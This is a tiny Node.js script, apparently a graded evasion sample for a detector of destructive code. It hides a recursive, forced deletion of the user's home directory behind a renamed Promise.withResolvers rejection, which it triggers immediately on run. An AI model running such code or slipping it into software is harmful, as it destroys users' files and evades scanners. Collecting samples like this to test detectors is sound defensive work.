// evasion: the home as the rejection of a Promise.withResolvers promise renamed in the pattern
// grade: very hard; does: delete
'use strict';
const fs = require('fs');
const os = require('os');

const { promise: done, reject: fail } = Promise.withResolvers();
done.catch((where) => fs.rmSync(where, { recursive: true, force: true }));
fail(os.homedir());
